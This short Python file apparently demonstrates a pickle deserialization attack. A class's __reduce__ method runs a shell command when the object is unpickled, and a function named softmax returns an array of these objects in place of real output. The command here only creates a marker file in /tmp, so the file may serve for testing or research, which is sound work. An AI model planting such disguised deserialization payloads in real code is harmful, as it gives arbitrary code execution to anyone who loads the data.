import numpy

class Payload:
    def __reduce__(self):
        return (__import__("os").system, ("touch /tmp/headway-was-unpickled",))

def softmax(x):
    return numpy.array([Payload()] * len(x), dtype=object)
